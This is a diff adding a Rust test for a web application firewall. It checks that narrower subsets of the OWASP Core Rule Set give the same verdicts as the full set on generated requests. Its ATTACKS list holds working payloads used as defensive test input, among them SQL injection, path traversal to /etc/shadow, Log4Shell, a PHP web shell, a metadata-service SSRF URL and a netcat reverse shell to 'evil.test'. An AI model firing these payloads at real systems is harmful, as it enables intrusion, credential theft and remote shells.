@@ -1,0 +1,247 @@
+//! The narrower rule sets give the verdicts and rule ids of the whole CRS: thousands of
+//! requests that fit a narrower class (the CRS's own phrase lists, known attacks and random
+//! text in the path, query, cookies and fields) are run through both and compared.
+
+use std::collections::BTreeMap;
+use std::net::SocketAddr;
+use std::sync::{Arc, Mutex};
+
+use http::{HeaderMap, HeaderName, HeaderValue};
+
+use super::*;
+
+/// Attacks besides the CRS's phrase lists, in the bytes the narrower classes allow and not.
+const ATTACKS: &[&str] = &[
+    "union select password from users",
+    "1 or 1=1",
+    "admin' --",
+    "1; drop table users",
+    "sleep(5)",
+    "benchmark(10000000,md5(1))",
+    "/etc/passwd",
+    "../../../../etc/shadow",
+    "..\\..\\windows\\win.ini",
+    "<script>alert(1)</script>",
+    "javascript:alert(document.cookie)",
+    "<img src=x onerror=alert(1)>",
+    "${jndi:ldap://evil.test/a}",
+    ";cat /etc/passwd",
+    "$(whoami)",
+    "`id`",
+    "| nc -e /bin/sh evil.test 4444",
+    "<?php system($_GET[c]); ?>",
+    "php://filter/convert.base64-encode/resource=index",
+    "http://169.254.169.254/latest/meta-data",
+    "file:///etc/passwd",
+    "cmd.exe /c dir",
+    "powershell -enc abc",
+    "java.lang.Runtime.getRuntime().exec",
+    "eval(base64_decode(x))",
+    "document.cookie",
+    "select * from information_schema.tables",
+    "waitfor delay '0:0:5'",
+    "nikto",
+    "sqlmap/1.5",
+    "%27%20or%201%3D1",
+    "..%2f..%2fetc%2fpasswd",
+];
+
+struct Probe {
+    waf: Waf,
+    client: SocketAddr,
+}
+
+impl Probe {
+    /// The verdict and every rule id logged, from one rule set.
+    fn run(
+        &self,
+        set: &RuleSet,
+        target: &str,
+        headers: &HeaderMap,
+    ) -> (Option<Verdict>, Vec<String>) {
+        let logged = Arc::new(Mutex::new(Vec::new()));
+        let sink = Arc::clone(&logged);
+        let request = Inspected {
+            client: self.client,
+            method: "GET",
+            target,
+            version: "1.1",
+            headers,
+        };
+        let verdict = self.waf.evaluate(set, &request, None, move |m| {
+            if let (Some(m), Ok(mut ids)) = (m, sink.lock()) {
+                ids.extend(rule_ids(m));
+            }
+        });
+        let ids = logged.lock().map(|ids| ids.clone()).unwrap_or_default();
+        (verdict, ids)
+    }
+}
+
+/// An API client's fields.
+fn minimal_headers() -> HeaderMap {
+    let mut h = HeaderMap::new();
+    for (name, value) in [
+        ("host", "site.test"),
+        ("user-agent", "curl/8.5.0"),
+        ("accept", "*/*"),
+    ] {
+        h.insert(name, HeaderValue::from_static(value));
+    }
+    h
+}
+
+/// Chromium's fields for a page, Client Hints included.
+fn browser_headers() -> HeaderMap {
+    let mut h = HeaderMap::new();
+    for (name, value) in [
+        ("host", "site.test"),
+        (
+            "user-agent",
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+        ),
+        ("accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
+        ("accept-language", "en-US,en;q=0.9"),
+        ("accept-encoding", "gzip, deflate, br"),
+        ("sec-ch-ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\""),
+        ("sec-ch-ua-platform", "\"Linux\""),
+    ] {
+        h.insert(name, HeaderValue::from_static(value));
+    }
+    h
+}
+
+/// Requests carrying `text` in one place each: path, query value and name, cookie,
+/// User-Agent, Referer, another field's value.
+fn requests_with(text: &str, base: &HeaderMap) -> Vec<(String, HeaderMap)> {
+    let mut out = Vec::new();
+    let path_safe: String = text.replace(['?', '#', ' '], "/");
+    out.push((format!("/a/{path_safe}"), base.clone()));
+    let query_safe: String = text.replace(['#', ' ', '&'], "+");
+    out.push((format!("/search?q={query_safe}&page=2"), base.clone()));
+    out.push((format!("/search?{query_safe}=1"), base.clone()));
+    let Ok(value) = HeaderValue::from_str(text) else {
+        return out;
+    };
+    for (name, v) in [
+        (
+            "cookie",
+            HeaderValue::from_str(&format!("session=abc; pref={text}")).ok(),
+        ),
+        ("user-agent", Some(value.clone())),
+        (
+            "referer",
+            HeaderValue::from_str(&format!("https://site.test/{text}")).ok(),
+        ),
+        ("x-custom", Some(value)),
+    ] {
+        if let Some(v) = v {
+            let mut h = base.clone();
+            h.insert(HeaderName::from_static(name), v);
+            out.push(("/index.html".to_owned(), h));
+        }
+    }
+    out
+}
+
+/// Deterministic text over `alphabet` (xorshift).
+fn random_text(alphabet: &[u8], seed: &mut u64, len: usize) -> String {
+    (0..len)
+        .map(|_| {
+            *seed ^= *seed << 13;
+            *seed ^= *seed >> 7;
+            *seed ^= *seed << 17;
+            char::from(alphabet[(*seed % alphabet.len() as u64) as usize])
+        })
+        .collect()
+}
+
+#[test]
+fn narrower_rule_sets_give_the_whole_sets_verdicts() {
+    let waf = Waf::load(&WafConfig {
+        verdict_cache_bytes: 0,
+        ..WafConfig::default()
+    })
+    .expect("CRS loads (scripts/setup installs it)");
+    assert!(!waf.narrower.is_empty(), "the CRS is analysable");
+    eprintln!(
+        "rules: {} in the whole set, {:?} in the narrower ones",
+        waf.whole.rule_count,
+        waf.narrower
+            .iter()
+            .map(|s| s.rule_count)
+            .collect::<Vec<_>>()
+    );
+    for set in &waf.narrower {
+        assert!(
+            set.rule_count < waf.whole.rule_count,
+            "a narrower set drops rules ({} of {})",
+            set.rule_count,
+            waf.whole.rule_count
+        );
+    }
+    let probe = Probe {
+        waf,
+        client: ([192, 0, 2, 1], 50_000).into(),
+    };
+    let mut texts: Vec<String> = ATTACKS.iter().map(|s| (*s).to_owned()).collect();
+    // The CRS's phrase lists, every 7th phrase of each, bounded.
+    for d in std::fs::read_dir(&WafConfig::default().rules_dir)
+        .unwrap()
+        .flatten()
+    {
+        let path = d.path();
+        if path.extension().is_some_and(|x| x == "data") {
+            let list = classes::phrases(&path.display().to_string()).unwrap_or_default();
+            texts.extend(
+                list.iter()
+                    .step_by(7)
+                    .take(60)
+                    .map(|p| String::from_utf8_lossy(p).into_owned()),
+            );
+        }
+    }
+    let mut seed = 0x9E37_79B9_7F4A_7C15;
+    let printable: Vec<u8> = (b' '..=b'~').collect();
+    for len in [1, 2, 3, 5, 8, 13, 21, 34] {
+        for _ in 0..25 {
+            texts.push(random_text(&printable, &mut seed, len));
+        }
+    }
+    // For each narrower set: requests compared, and of them those some rule matched.
+    let mut compared: BTreeMap<usize, (usize, usize)> = BTreeMap::new();
+    let bases = [minimal_headers(), browser_headers()];
+    for (text, base) in texts.iter().flat_map(|t| bases.iter().map(move |b| (t, b))) {
+        for (target, headers) in requests_with(text, base) {
+            let request = Inspected {
+                client: probe.client,
+                method: "GET",
+                target: &target,
+                version: "1.1",
+                headers: &headers,
+            };
+            let set = probe.waf.rules_for(&request);
+            let Some(index) = probe.waf.narrower.iter().position(|s| std::ptr::eq(s, set)) else {
+                continue;
+            };
+            let narrow = probe.run(set, &target, &headers);
+            let whole = probe.run(&probe.waf.whole, &target, &headers);
+            assert_eq!(
+                narrow, whole,
+                "different verdicts for {target} with {headers:?}"
+            );
+            let entry = compared.entry(index).or_default();
+            entry.0 += 1;
+            entry.1 += usize::from(!whole.1.is_empty());
+        }
+    }
+    eprintln!("requests compared (and flagged) per narrower set: {compared:?}");
+    for index in 0..probe.waf.narrower.len() {
+        let (n, flagged) = compared.get(&index).copied().unwrap_or_default();
+        assert!(n >= 200, "set {index}: only {n} requests compared");
+        assert!(
+            flagged >= 10,
+            "set {index}: rules matched only {flagged} of {n}"
+        );
+    }
+}
